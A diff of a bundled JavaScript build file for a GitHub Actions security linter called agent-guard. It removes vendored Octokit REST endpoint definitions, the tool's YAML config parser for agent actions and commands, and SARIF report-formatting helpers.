-        uploadReleaseAsset: [
-          "POST /repos/{owner}/{repo}/releases/{release_id}/assets{?name,label}",
-          { baseUrl: "https://uploads.github.com" }
-        ]
-      },
-      search: {
-        code: ["GET /search/code"],
-        commits: ["GET /search/commits"],
-        issuesAndPullRequests: ["GET /search/issues"],
-        labels: ["GET /search/labels"],
-        repos: ["GET /search/repositories"],
-        topics: ["GET /search/topics"],
-        users: ["GET /search/users"]
-      },
-      secretScanning: {
-        createPushProtectionBypass: [
-          "POST /repos/{owner}/{repo}/secret-scanning/push-protection-bypasses"
-        ],
-        getAlert: [
-          "GET /repos/{owner}/{repo}/secret-scanning/alerts/{alert_number}"
-        ],
-        getScanHistory: ["GET /repos/{owner}/{repo}/secret-scanning/scan-history"],
-        listAlertsForEnterprise: [
-          "GET /enterprises/{enterprise}/secret-scanning/alerts"
-        ],
-        listAlertsForOrg: ["GET /orgs/{org}/secret-scanning/alerts"],
-        listAlertsForRepo: ["GET /repos/{owner}/{repo}/secret-scanning/alerts"],
-        listLocationsForAlert: [
-          "GET /repos/{owner}/{repo}/secret-scanning/alerts/{alert_number}/locations"
-        ],
-        updateAlert: [
-          "PATCH /repos/{owner}/{repo}/secret-scanning/alerts/{alert_number}"
-        ]
-      },
-      securityAdvisories: {
-        createFork: [
-          "POST /repos/{owner}/{repo}/security-advisories/{ghsa_id}/forks"
-        ],
-        createPrivateVulnerabilityReport: [
-          "POST /repos/{owner}/{repo}/security-advisories/reports"
-        ],
-        createRepositoryAdvisory: [
-          "POST /repos/{owner}/{repo}/security-advisories"
-        ],
-        createRepositoryAdvisoryCveRequest: [
-          "POST /repos/{owner}/{repo}/security-advisories/{ghsa_id}/cve"
-        ],
-        getGlobalAdvisory: ["GET /advisories/{ghsa_id}"],
-        getRepositoryAdvisory: [
-          "GET /repos/{owner}/{repo}/security-advisories/{ghsa_id}"
-        ],
-        listGlobalAdvisories: ["GET /advisories"],
-        listOrgRepositoryAdvisories: ["GET /orgs/{org}/security-advisories"],
-        listRepositoryAdvisories: ["GET /repos/{owner}/{repo}/security-advisories"],
-        updateRepositoryAdvisory: [
-          "PATCH /repos/{owner}/{repo}/security-advisories/{ghsa_id}"
-        ]
-      },
-      teams: {
-        addOrUpdateMembershipForUserInOrg: [
-          "PUT /orgs/{org}/teams/{team_slug}/memberships/{username}"
-        ],
-        addOrUpdateProjectPermissionsInOrg: [
-          "PUT /orgs/{org}/teams/{team_slug}/projects/{project_id}"
-        ],
-        addOrUpdateRepoPermissionsInOrg: [
-          "PUT /orgs/{org}/teams/{team_slug}/repos/{owner}/{repo}"
-        ],
-        checkPermissionsForProjectInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/projects/{project_id}"
-        ],
-        checkPermissionsForRepoInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/repos/{owner}/{repo}"
-        ],
-        create: ["POST /orgs/{org}/teams"],
-        createDiscussionCommentInOrg: [
-          "POST /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments"
-        ],
-        createDiscussionInOrg: ["POST /orgs/{org}/teams/{team_slug}/discussions"],
-        deleteDiscussionCommentInOrg: [
-          "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}"
-        ],
-        deleteDiscussionInOrg: [
-          "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}"
-        ],
-        deleteInOrg: ["DELETE /orgs/{org}/teams/{team_slug}"],
-        getByName: ["GET /orgs/{org}/teams/{team_slug}"],
-        getDiscussionCommentInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}"
-        ],
-        getDiscussionInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}"
-        ],
-        getMembershipForUserInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/memberships/{username}"
-        ],
-        list: ["GET /orgs/{org}/teams"],
-        listChildInOrg: ["GET /orgs/{org}/teams/{team_slug}/teams"],
-        listDiscussionCommentsInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments"
-        ],
-        listDiscussionsInOrg: ["GET /orgs/{org}/teams/{team_slug}/discussions"],
-        listForAuthenticatedUser: ["GET /user/teams"],
-        listMembersInOrg: ["GET /orgs/{org}/teams/{team_slug}/members"],
-        listPendingInvitationsInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/invitations"
-        ],
-        listProjectsInOrg: ["GET /orgs/{org}/teams/{team_slug}/projects"],
-        listReposInOrg: ["GET /orgs/{org}/teams/{team_slug}/repos"],
-        removeMembershipForUserInOrg: [
-          "DELETE /orgs/{org}/teams/{team_slug}/memberships/{username}"
-        ],
-        removeProjectInOrg: [
-          "DELETE /orgs/{org}/teams/{team_slug}/projects/{project_id}"
-        ],
-        removeRepoInOrg: [
-          "DELETE /orgs/{org}/teams/{team_slug}/repos/{owner}/{repo}"
-        ],
-        updateDiscussionCommentInOrg: [
-          "PATCH /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}"
-        ],
-        updateDiscussionInOrg: [
-          "PATCH /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}"
-        ],
-        updateInOrg: ["PATCH /orgs/{org}/teams/{team_slug}"]
-      },
-      users: {
-        addEmailForAuthenticated: [
-          "POST /user/emails",
-          {},
-          { renamed: ["users", "addEmailForAuthenticatedUser"] }
-        ],
-        addEmailForAuthenticatedUser: ["POST /user/emails"],
-        addSocialAccountForAuthenticatedUser: ["POST /user/social_accounts"],
-        block: ["PUT /user/blocks/{username}"],
-        checkBlocked: ["GET /user/blocks/{username}"],
-        checkFollowingForUser: ["GET /users/{username}/following/{target_user}"],
-        checkPersonIsFollowedByAuthenticated: ["GET /user/following/{username}"],
-        createGpgKeyForAuthenticated: [
-          "POST /user/gpg_keys",
-          {},
-          { renamed: ["users", "createGpgKeyForAuthenticatedUser"] }
-        ],
-        createGpgKeyForAuthenticatedUser: ["POST /user/gpg_keys"],
-        createPublicSshKeyForAuthenticated: [
-          "POST /user/keys",
-          {},
-          { renamed: ["users", "createPublicSshKeyForAuthenticatedUser"] }
-        ],
-        createPublicSshKeyForAuthenticatedUser: ["POST /user/keys"],
-        createSshSigningKeyForAuthenticatedUser: ["POST /user/ssh_signing_keys"],
-        deleteEmailForAuthenticated: [
-          "DELETE /user/emails",
-          {},
-          { renamed: ["users", "deleteEmailForAuthenticatedUser"] }
-        ],
-        deleteEmailForAuthenticatedUser: ["DELETE /user/emails"],
-        deleteGpgKeyForAuthenticated: [
-          "DELETE /user/gpg_keys/{gpg_key_id}",
-          {},
-          { renamed: ["users", "deleteGpgKeyForAuthenticatedUser"] }
-        ],
-        deleteGpgKeyForAuthenticatedUser: ["DELETE /user/gpg_keys/{gpg_key_id}"],
-        deletePublicSshKeyForAuthenticated: [
-          "DELETE /user/keys/{key_id}",
-          {},
-          { renamed: ["users", "deletePublicSshKeyForAuthenticatedUser"] }
-        ],
-        deletePublicSshKeyForAuthenticatedUser: ["DELETE /user/keys/{key_id}"],
-        deleteSocialAccountForAuthenticatedUser: ["DELETE /user/social_accounts"],
-        deleteSshSigningKeyForAuthenticatedUser: [
-          "DELETE /user/ssh_signing_keys/{ssh_signing_key_id}"
-        ],
-        follow: ["PUT /user/following/{username}"],
-        getAuthenticated: ["GET /user"],
-        getById: ["GET /user/{account_id}"],
-        getByUsername: ["GET /users/{username}"],
-        getContextForUser: ["GET /users/{username}/hovercard"],
-        getGpgKeyForAuthenticated: [
-          "GET /user/gpg_keys/{gpg_key_id}",
-          {},
-          { renamed: ["users", "getGpgKeyForAuthenticatedUser"] }
-        ],
-        getGpgKeyForAuthenticatedUser: ["GET /user/gpg_keys/{gpg_key_id}"],
-        getPublicSshKeyForAuthenticated: [
-          "GET /user/keys/{key_id}",
-          {},
-          { renamed: ["users", "getPublicSshKeyForAuthenticatedUser"] }
-        ],
-        getPublicSshKeyForAuthenticatedUser: ["GET /user/keys/{key_id}"],
-        getSshSigningKeyForAuthenticatedUser: [
-          "GET /user/ssh_signing_keys/{ssh_signing_key_id}"
-        ],
-        list: ["GET /users"],
-        listAttestations: ["GET /users/{username}/attestations/{subject_digest}"],
-        listBlockedByAuthenticated: [
-          "GET /user/blocks",
-          {},
-          { renamed: ["users", "listBlockedByAuthenticatedUser"] }
-        ],
-        listBlockedByAuthenticatedUser: ["GET /user/blocks"],
-        listEmailsForAuthenticated: [
-          "GET /user/emails",
-          {},
-          { renamed: ["users", "listEmailsForAuthenticatedUser"] }
-        ],
-        listEmailsForAuthenticatedUser: ["GET /user/emails"],
-        listFollowedByAuthenticated: [
-          "GET /user/following",
-          {},
-          { renamed: ["users", "listFollowedByAuthenticatedUser"] }
-        ],
-        listFollowedByAuthenticatedUser: ["GET /user/following"],
-        listFollowersForAuthenticatedUser: ["GET /user/followers"],
-        listFollowersForUser: ["GET /users/{username}/followers"],
-        listFollowingForUser: ["GET /users/{username}/following"],
-        listGpgKeysForAuthenticated: [
-          "GET /user/gpg_keys",
-          {},
-          { renamed: ["users", "listGpgKeysForAuthenticatedUser"] }
-        ],
-        listGpgKeysForAuthenticatedUser: ["GET /user/gpg_keys"],
-        listGpgKeysForUser: ["GET /users/{username}/gpg_keys"],
-        listPublicEmailsForAuthenticated: [
-          "GET /user/public_emails",
-          {},
-          { renamed: ["users", "listPublicEmailsForAuthenticatedUser"] }
-        ],
-        listPublicEmailsForAuthenticatedUser: ["GET /user/public_emails"],
-        listPublicKeysForUser: ["GET /users/{username}/keys"],
-        listPublicSshKeysForAuthenticated: [
-          "GET /user/keys",
-          {},
-          { renamed: ["users", "listPublicSshKeysForAuthenticatedUser"] }
-        ],
-        listPublicSshKeysForAuthenticatedUser: ["GET /user/keys"],
-        listSocialAccountsForAuthenticatedUser: ["GET /user/social_accounts"],
-        listSocialAccountsForUser: ["GET /users/{username}/social_accounts"],
-        listSshSigningKeysForAuthenticatedUser: ["GET /user/ssh_signing_keys"],
-        listSshSigningKeysForUser: ["GET /users/{username}/ssh_signing_keys"],
-        setPrimaryEmailVisibilityForAuthenticated: [
-          "PATCH /user/email/visibility",
-          {},
-          { renamed: ["users", "setPrimaryEmailVisibilityForAuthenticatedUser"] }
-        ],
-        setPrimaryEmailVisibilityForAuthenticatedUser: [
-          "PATCH /user/email/visibility"
-        ],
-        unblock: ["DELETE /user/blocks/{username}"],
-        unfollow: ["DELETE /user/following/{username}"],
-        updateAuthenticated: ["PATCH /user"]
-      }
-    };
-    var endpoints_default = Endpoints;
-    var endpointMethodsMap = /* @__PURE__ */ new Map();
-    for (const [scope, endpoints] of Object.entries(endpoints_default)) {
-      for (const [methodName, endpoint] of Object.entries(endpoints)) {
-        const [route, defaults, decorations] = endpoint;
-        const [method, url] = route.split(/ /);
-        const endpointDefaults = Object.assign(
-          {
-            method,
-            url
-          },
-          defaults
-        );
-        if (!endpointMethodsMap.has(scope)) {
-          endpointMethodsMap.set(scope, /* @__PURE__ */ new Map());
-        }
-        endpointMethodsMap.get(scope).set(methodName, {
-          scope,
-          methodName,
-          endpointDefaults,
-          decorations
-        });
-      }
-    }
-    var handler = {
-      has({ scope }, methodName) {
-        return endpointMethodsMap.get(scope).has(methodName);
-      },
-      getOwnPropertyDescriptor(target, methodName) {
-        return {
-          value: this.get(target, methodName),
-          // ensures method is in the cache
-          configurable: true,
-          writable: true,
-          enumerable: true
-        };
-      },
-      defineProperty(target, methodName, descriptor) {
-        Object.defineProperty(target.cache, methodName, descriptor);
-        return true;
-      },
-      deleteProperty(target, methodName) {
-        delete target.cache[methodName];
-        return true;
-      },
-      ownKeys({ scope }) {
-        return [...endpointMethodsMap.get(scope).keys()];
-      },
-      set(target, methodName, value) {
-        return target.cache[methodName] = value;
-      },
-      get({ octokit, scope, cache: cache2 }, methodName) {
-        if (cache2[methodName]) {
-          return cache2[methodName];
-        }
-        const method = endpointMethodsMap.get(scope).get(methodName);
-        if (!method) {
-          return void 0;
-        }
-        const { endpointDefaults, decorations } = method;
-        if (decorations) {
-          cache2[methodName] = decorate(
-            octokit,
-            scope,
-            methodName,
-            endpointDefaults,
-            decorations
-          );
-        } else {
-          cache2[methodName] = octokit.request.defaults(endpointDefaults);
-        }
-        return cache2[methodName];
-      }
-    };
-    function endpointsToMethods(octokit) {
-      const newMethods = {};
-      for (const scope of endpointMethodsMap.keys()) {
-        newMethods[scope] = new Proxy({ octokit, scope, cache: {} }, handler);
-      }
-      return newMethods;
-    }
-    function decorate(octokit, scope, methodName, defaults, decorations) {
-      const requestWithDefaults = octokit.request.defaults(defaults);
-      function withDecorations(...args) {
-        let options = requestWithDefaults.endpoint.merge(...args);
-        if (decorations.mapToData) {
-          options = Object.assign({}, options, {
-            data: options[decorations.mapToData],
-            [decorations.mapToData]: void 0
-          });
-          return requestWithDefaults(options);
-        }
-        if (decorations.renamed) {
-          const [newScope, newMethodName] = decorations.renamed;
-          octokit.log.warn(
-            `octokit.${scope}.${methodName}() has been renamed to octokit.${newScope}.${newMethodName}()`
-          );
-        }
-        if (decorations.deprecated) {
-          octokit.log.warn(decorations.deprecated);
-        }
-        if (decorations.renamedParameters) {
-          const options2 = requestWithDefaults.endpoint.merge(...args);
-          for (const [name, alias] of Object.entries(
-            decorations.renamedParameters
-          )) {
-            if (name in options2) {
-              octokit.log.warn(
-                `"${name}" parameter is deprecated for "octokit.${scope}.${methodName}()". Use "${alias}" instead`
-              );
-              if (!(alias in options2)) {
-                options2[alias] = options2[name];
-              }
-              delete options2[name];
-            }
-          }
-          return requestWithDefaults(options2);
-        }
-        return requestWithDefaults(...args);
-      }
-      return Object.assign(withDecorations, requestWithDefaults);
-    }
-    function restEndpointMethods(octokit) {
-      const api = endpointsToMethods(octokit);
-      return {
-        rest: api
-      };
-    }
-    restEndpointMethods.VERSION = VERSION2;
-    function legacyRestEndpointMethods(octokit) {
-      const api = endpointsToMethods(octokit);
-      return {
-        ...api,
-        rest: api
-      };
-    }
-    legacyRestEndpointMethods.VERSION = VERSION2;
-  }
-});
-
-// node_modules/@octokit/rest/dist-node/index.js
-var require_dist_node12 = __commonJS({
-  "node_modules/@octokit/rest/dist-node/index.js"(exports2, module2) {
-    "use strict";
-    var __defProp2 = Object.defineProperty;
-    var __getOwnPropDesc2 = Object.getOwnPropertyDescriptor;
-    var __getOwnPropNames2 = Object.getOwnPropertyNames;
-    var __hasOwnProp2 = Object.prototype.hasOwnProperty;
-    var __export2 = (target, all) => {
-      for (var name in all)
-        __defProp2(target, name, { get: all[name], enumerable: true });
-    };
-    var __copyProps2 = (to, from, except, desc) => {
-      if (from && typeof from === "object" || typeof from === "function") {
-        for (let key2 of __getOwnPropNames2(from))
-          if (!__hasOwnProp2.call(to, key2) && key2 !== except)
-            __defProp2(to, key2, { get: () => from[key2], enumerable: !(desc = __getOwnPropDesc2(from, key2)) || desc.enumerable });
-      }
-      return to;
-    };
-    var __toCommonJS2 = (mod) => __copyProps2(__defProp2({}, "__esModule", { value: true }), mod);
-    var index_exports = {};
-    __export2(index_exports, {
-      Octokit: () => Octokit2
-    });
-    module2.exports = __toCommonJS2(index_exports);
-    var import_core = require_dist_node8();
-    var import_plugin_request_log = require_dist_node9();
-    var import_plugin_paginate_rest = require_dist_node10();
-    var import_plugin_rest_endpoint_methods = require_dist_node11();
-    var VERSION2 = "20.1.2";
-    var Octokit2 = import_core.Octokit.plugin(
-      import_plugin_request_log.requestLog,
-      import_plugin_rest_endpoint_methods.legacyRestEndpointMethods,
-      import_plugin_paginate_rest.paginateRest
-    ).defaults({
-      userAgent: `octokit-rest.js/${VERSION2}`
-    });
-  }
-});
-
 // src/cli.ts
 var cli_exports = {};
 __export(cli_exports, {
@@ -13550,7 +12607,7 @@ function severityRank(s) {
 }
 
 // src/config.ts
-var import_node_fs = __toESM(require("node:fs"));
+var import_node_fs2 = __toESM(require("node:fs"));
 
 // src/workflow/yaml.ts
 var import_yaml = __toESM(require_dist());
@@ -13730,692 +12787,6 @@ function locateInScalar(file, scalar, valueOffset, length) {
   }
   return at;
 }
-
-// src/config.ts
-var EMPTY_CONFIG = { ignore: [], severity: {}, trustedUsers: [], trustedBots: [], actions: [], clis: [] };
-var ConfigError = class extends Error {
-};
-function readConfig(path14) {
-  let text;
-  try {
-    text = import_node_fs.default.readFileSync(path14, "utf8");
-  } catch (err) {
-    throw new ConfigError(`${path14}:1:1: cannot read config: ${err.code ?? "error"}`);
-  }
-  return parseConfig(path14, text);
-}
-function parseConfig(path14, text) {
-  const file = makeSourceFile(path14, text);
-  let root;
-  try {
-    root = loadYaml(file);
-  } catch (err) {
-    const pos = positionOf(file, err instanceof YamlLoadError ? err.offset : 0);
-    throw new ConfigError(`${path14}:${pos.line}:${pos.column}: invalid YAML: ${err.message}`);
-  }
-  const config = { ignore: [], severity: {}, trustedUsers: [], trustedBots: [], actions: [], clis: [] };
-  if (!root || root.kind === "scalar" && root.value === null) return config;
-  const fail2 = (node, message) => {
-    const pos = positionOf(file, node.start);
-    throw new ConfigError(`${path14}:${pos.line}:${pos.column}: ${message}`);
-  };
-  const map = expectMap(root, "the config", fail2);
-  for (const { key: key2, value } of map.pairs) {
-    switch (key2.text) {
-      case "ignore":
-        config.ignore = expectSeq(value, "ignore", fail2).map((item) => readIgnore(item, fail2));
-        break;
-      case "severity":
-        for (const p of expectMap(value, "severity", fail2).pairs) {
-          const level = p.value.kind === "scalar" ? p.value.text : "";
-          if (!SEVERITIES.includes(level)) fail2(p.value, `severity of '${p.key.text}' must be one of ${SEVERITIES.join(", ")}`);
-          config.severity[p.key.text] = level;
-        }
-        break;
-      case "trusted-users":
-        config.trustedUsers = strings(value, "trusted-users", fail2);
-        break;
-      case "trusted-bots":
-        config.trustedBots = strings(value, "trusted-bots", fail2);
-        break;
-      case "agents":
-        readAgents(value, config, fail2, file);
-        break;
-      default:
-        fail2(key2, `unknown key '${key2.text}' (expected ignore, severity, trusted-users, trusted-bots, agents)`);
-    }
-  }
-  return config;
-}
-function expectMap(node, what, fail2) {
-  if (node.kind !== "map") fail2(node, `${what} must be a mapping`);
-  return node;
-}
-function expectSeq(node, what, fail2) {
-  if (node.kind !== "seq") fail2(node, `${what} must be a list`);
-  return node.items;
-}
-function strings(node, what, fail2) {
-  return expectSeq(node, what, fail2).map((i) => i.kind === "scalar" ? i.text : fail2(i, `${what} entries must be strings`));
-}
-function readIgnore(node, fail2) {
-  const out = {};
-  for (const { key: key2, value } of expectMap(node, "an ignore entry", fail2).pairs) {
-    if (value.kind !== "scalar") fail2(value, `'${key2.text}' must be a string`);
-    const text = value.text;
-    if (key2.text === "rule") out.rule = text;
-    else if (key2.text === "file") out.file = text;
-    else if (key2.text === "job") out.job = text;
-    else fail2(key2, `unknown key '${key2.text}' in ignore entry (expected rule, file, job)`);
-  }
-  if (!out.rule && !out.file && !out.job) fail2(node, "an ignore entry needs rule, file or job");
-  return out;
-}
-function readAgents(node, config, fail2, file) {
-  for (const { key: key2, value } of expectMap(node, "agents", fail2).pairs) {
-    if (key2.text === "actions") {
-      for (const item of expectSeq(value, "agents.actions", fail2)) config.actions.push(readAction(item, fail2));
-    } else if (key2.text === "commands") {
-      for (const item of expectSeq(value, "agents.commands", fail2)) config.clis.push(readCommand(item, fail2));
-    } else fail2(key2, `unknown key '${key2.text}' in agents (expected actions, commands)`);
-  }
-  void file;
-}
-var SHELLS = ["full", "restricted", "none"];
-function readAction(node, fail2) {
-  const m = expectMap(node, "an agent action", fail2);
-  const fields = {};
-  for (const p of m.pairs) {
-    if (!["uses", "name", "prompt-inputs", "key-inputs", "token-inputs", "shell", "network", "reads-thread"].includes(p.key.text)) {
-      fail2(p.key, `unknown key '${p.key.text}' in agent action (expected uses, name, prompt-inputs, key-inputs, token-inputs, shell, network, reads-thread)`);
-    }
-    fields[p.key.text] = p.value;
-  }
-  if (!fields.uses || fields.uses.kind !== "scalar") fail2(node, "an agent action needs 'uses'");
-  const uses = fields.uses.text;
-  const shell = fields.shell?.kind === "scalar" ? fields.shell.text : "none";
-  if (!SHELLS.includes(shell)) fail2(fields.shell, `shell must be one of ${SHELLS.join(", ")}`);
-  return {
-    id: `config:${uses}`,
-    name: fields.name?.kind === "scalar" ? fields.name.text : uses,
-    uses: [uses],
-    promptInputs: fields["prompt-inputs"] ? strings(fields["prompt-inputs"], "prompt-inputs", fail2) : ["prompt"],
-    keyInputs: fields["key-inputs"] ? strings(fields["key-inputs"], "key-inputs", fail2) : [],
-    tokenInputs: fields["token-inputs"] ? strings(fields["token-inputs"], "token-inputs", fail2) : [],
-    keyHandling: "process",
-    gate: { kind: "none" },
-    readsThread: fields["reads-thread"]?.kind === "scalar" && fields["reads-thread"].text === "true" ? "always" : "never",
-    defaults: { shell, network: fields.network?.kind === "scalar" && fields.network.text === "true", writesFiles: shell !== "none" }
-  };
-}
-function readCommand(node, fail2) {
-  const m = expectMap(node, "an agent command", fail2);
-  const fields = {};
-  for (const p of m.pairs) {
-    if (!["command", "name", "bypass-flags", "key-env", "shell"].includes(p.key.text)) {
-      fail2(p.key, `unknown key '${p.key.text}' in agent command (expected command, name, bypass-flags, key-env, shell)`);
-    }
-    fields[p.key.text] = p.value;
-  }
-  if (!fields.command || fields.command.kind !== "scalar") fail2(node, "an agent command needs 'command'");
-  const command2 = fields.command.text;
-  const shell = fields.shell?.kind === "scalar" ? fields.shell.text : "full";
-  if (!SHELLS.includes(shell)) fail2(fields.shell, `shell must be one of ${SHELLS.join(", ")}`);
-  return {
-    id: `config:${command2}`,
-    name: fields.name?.kind === "scalar" ? fields.name.text : command2,
-    commands: [command2],
-    bypassFlags: fields["bypass-flags"] ? strings(fields["bypass-flags"], "bypass-flags", fail2) : [],
-    defaults: { shell, network: shell === "full", writesFiles: true },
-    keyEnv: fields["key-env"] ? strings(fields["key-env"], "key-env", fail2) : [],
-    instructionFiles: []
-  };
-}
-function globMatch(pattern, path14) {
-  const normalized = path14.replace(/\\/g, "/");
-  const re = new RegExp(
-    "(^|/)" + pattern.replace(/[.+^${}()|[\]\\]/g, "\\$&").replace(/\*\*/g, "\0").replace(/\*/g, "[^/]*").replace(/\u0000/g, ".*").replace(/\?/g, "[^/]") + "$"
-  );
-  return re.test(normalized);
-}
-
-// src/action/lint.ts
-var import_node_fs7 = __toESM(require("node:fs"));
-var import_node_path4 = __toESM(require("node:path"));
-
-// src/baseline.ts
-var import_node_crypto = require("node:crypto");
-var import_node_fs2 = __toESM(require("node:fs"));
-var import_node_path = __toESM(require("node:path"));
-
-// src/report/common.ts
-var path = __toESM(require("path"));
-var TOOL_NAME = "agent-guard";
-var TOOL_URI = "https://github.com/agent-guard/agent-guard";
-function cmpStr(a, b) {
-  return a < b ? -1 : a > b ? 1 : 0;
-}
-function cmpOpt(a, b) {
-  return cmpStr(a ?? "", b ?? "");
-}
-function compareFindings(a, b) {
-  return cmpStr(a.file, b.file) || a.line - b.line || a.column - b.column || cmpStr(a.rule, b.rule) || severityRank(b.severity) - severityRank(a.severity) || cmpOpt(a.job, b.job) || cmpOpt(a.step, b.step) || cmpStr(a.message, b.message);
-}
-function sortFindings(findings) {
-  return [...findings].sort(compareFindings);
-}
-function sortErrors(errors) {
-  return [...errors].sort(
-    (a, b) => cmpStr(a.file, b.file) || a.line - b.line || a.column - b.column || cmpStr(a.message, b.message)
-  );
-}
-function sortRules(rules) {
-  const byId = /* @__PURE__ */ new Map();
-  for (const r of rules) if (!byId.has(r.id)) byId.set(r.id, r);
-  return [...byId.values()].sort((a, b) => cmpStr(a.id, b.id));
-}
-function countBySeverity(findings) {
-  const counts = { critical: 0, high: 0, medium: 0, low: 0 };
-  for (const f of findings) counts[f.severity]++;
-  return counts;
-}
-function plural(n, one, many = `${one}s`) {
-  return `${n} ${n === 1 ? one : many}`;
-}
-function severityBreakdown(counts) {
-  return SEVERITIES.filter((s) => counts[s] > 0).map((s) => `${counts[s]} ${s}`).join(", ");
-}
-function errorFileCount(errors) {
-  return new Set(errors.map((e) => e.file)).size;
-}
-function countLine(result) {
-  const counts = countBySeverity(result.findings);
-  const n = result.findings.length;
-  const head = n === 0 ? "no findings" : `${plural(n, "finding")} (${severityBreakdown(counts)})`;
-  let line = `${head} in ${plural(result.stats.files, "file")}`;
-  const bad = errorFileCount(result.errors);
-  if (bad > 0) line += `, ${plural(bad, "file")} could not be read`;
-  return line;
-}
-function repoPath(file, root) {
-  let f = file;
-  if (root !== void 0) {
-    let rel;
-    if (path.isAbsolute(f)) rel = path.relative(path.resolve(root), f);
-    else if (/^[A-Za-z]:[\\/]/.test(f) && /^[A-Za-z]:[\\/]/.test(root)) rel = path.win32.relative(root, f);
-    if (rel) f = rel;
-  }
-  f = f.replace(/\\/g, "/");
-  while (f.startsWith("./")) f = f.slice(2);
-  return f;
-}
-var UNSAFE_RE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g;
-function sanitizeTerminal(s) {
-  return s.replace(UNSAFE_RE, (ch) => {
-    const cp = ch.charCodeAt(0);
-    if (cp < 32) return String.fromCharCode(9216 + cp);
-    if (cp === 127) return "\u2421";
-    return "\uFFFD";
-  });
-}
-function splitLines(text) {
-  return text.split("\n").map((l) => l.endsWith("\r") ? l.slice(0, -1) : l);
-}
-function wrap(text, width) {
-  const out = [];
-  for (const para of text.split("\n")) {
-    const words = para.split(/[ \t]+/).filter((w) => w !== "");
-    if (words.length === 0) {
-      out.push("");
-      continue;
-    }
-    let line = "";
-    for (const w of words) {
-      if (line === "") line = w;
-      else if (line.length + 1 + w.length <= width) line += ` ${w}`;
-      else {
-        out.push(line);
-        line = w;
-      }
-    }
-    out.push(line);
-  }
-  while (out.length > 1 && out[out.length - 1] === "") out.pop();
-  return out;
-}
-
-// src/report/sarif.ts
-var import_crypto = require("crypto");
-var path2 = __toESM(require("path"));
-var import_url = require("url");
-var SARIF_SCHEMA_URI = "https://json.schemastore.org/sarif-2.1.0.json";
-var SRCROOT = "%SRCROOT%";
-var FINGERPRINT_KEY = "agentGuardFindingHash/v1";
-var SECURITY_SEVERITY = {
-  critical: "9.5",
-  high: "8.0",
-  medium: "5.5",
-  low: "3.0"
-};
-function sarifLevel(s) {
-  return s === "critical" || s === "high" ? "error" : s === "medium" ? "warning" : "note";
-}
-function toSarif(result, opts) {
-  const rules = sortRules(result.rules);
-  const ruleIndex = /* @__PURE__ */ new Map();
-  const descriptors = [];
-  for (const r of rules) {
-    ruleIndex.set(r.id, descriptors.length);
-    descriptors.push(ruleDescriptor(r));
-  }
-  const findings = sortFindings(result.findings);
-  for (const f of findings) {
-    if (!ruleIndex.has(f.rule)) {
-      ruleIndex.set(f.rule, descriptors.length);
-      descriptors.push(ruleDescriptor(fallbackRule(f.rule, findings)));
-    }
-  }
-  const fingerprints = computeFingerprints(findings, opts.root);
-  const results = findings.map((f, i) => sarifResult(f, ruleIndex.get(f.rule) ?? 0, fingerprints[i], opts.root));
-  const errors = sortErrors(result.errors);
-  const nothingRead = errors.length > 0 && errorFileCount(errors) >= result.stats.files;
-  const invocation = { executionSuccessful: !nothingRead };
-  if (errors.length > 0) invocation.toolExecutionNotifications = errors.map((e) => notification(e, opts.root));
-  const driver = {
-    name: TOOL_NAME,
-    version: opts.toolVersion
-  };
-  if (/^\d+\.\d+\.\d+(?:-[0-9A-Za-z.-]+)?(?:\+[0-9A-Za-z.-]+)?$/.test(opts.toolVersion)) {
-    driver.semanticVersion = opts.toolVersion;
-  }
-  driver.informationUri = TOOL_URI;
-  driver.rules = descriptors;
-  const run = {
-    tool: { driver },
-    invocations: [invocation]
-  };
-  if (opts.root !== void 0) run.originalUriBaseIds = { [SRCROOT]: { uri: dirUri(opts.root) } };
-  run.results = results;
-  run.columnKind = "utf16CodeUnits";
-  return {
-    $schema: SARIF_SCHEMA_URI,
-    version: "2.1.0",
-    runs: [run]
-  };
-}
-function formatSarif(result, opts) {
-  return `${JSON.stringify(toSarif(result, opts), null, 2)}
-`;
-}
-function ruleDescriptor(r) {
-  const plain = markdownToText(r.help).trim();
-  const full = markdownToText(firstParagraph(r.help)).trim() || r.title;
-  const docsNote = r.docs && !r.help.includes(r.docs);
-  const d = {
-    id: r.id,
-    name: pascalCase(r.id),
-    shortDescription: { text: r.title },
-    fullDescription: { text: full },
-    defaultConfiguration: { level: sarifLevel(r.severity) }
-  };
-  if (r.docs) d.helpUri = r.docs;
-  d.help = {
-    text: (plain || r.title) + (docsNote ? `
-
-Documentation: ${r.docs}` : ""),
-    markdown: (r.help.trim() || r.title) + (docsNote ? `
-
-[Documentation](${r.docs})` : "")
-  };
-  d.properties = {
-    "security-severity": SECURITY_SEVERITY[r.severity],
-    tags: ["security", "github-actions", "ai-agent"]
-  };
-  return d;
-}
-function fallbackRule(id, findings) {
-  let severity = "low";
-  for (const f of findings) if (f.rule === id && severityRank(f.severity) > severityRank(severity)) severity = f.severity;
-  return { id, title: id, severity, help: "", docs: "" };
-}
-function pascalCase(id) {
-  return id.split(/[^A-Za-z0-9]+/).filter((p) => p !== "").map((p) => p[0].toUpperCase() + p.slice(1)).join("");
-}
-function markdownToText(md2) {
-  return md2.replace(/\r\n/g, "\n").replace(/^```[^\n]*\n([\s\S]*?)^```[ \t]*$/gm, (_m, body) => body.replace(/\n$/, "")).replace(/!\[([^\]]*)\]\([^)]*\)/g, "$1").replace(/\[([^\]]+)\]\(([^)\s]+)[^)]*\)/g, (_m, text, url) => text === url ? url : `${text} (${url})`).replace(/`([^`\n]+)`/g, "$1").replace(/^#{1,6}[ \t]+/gm, "").replace(/(\*\*|__)(?=\S)([^\n]*?\S)\1/g, "$2").replace(/(^|[\s(])[*_](?=\S)([^*_\n]*?\S)[*_](?=[\s).,;:!?]|$)/gm, "$1$2");
-}
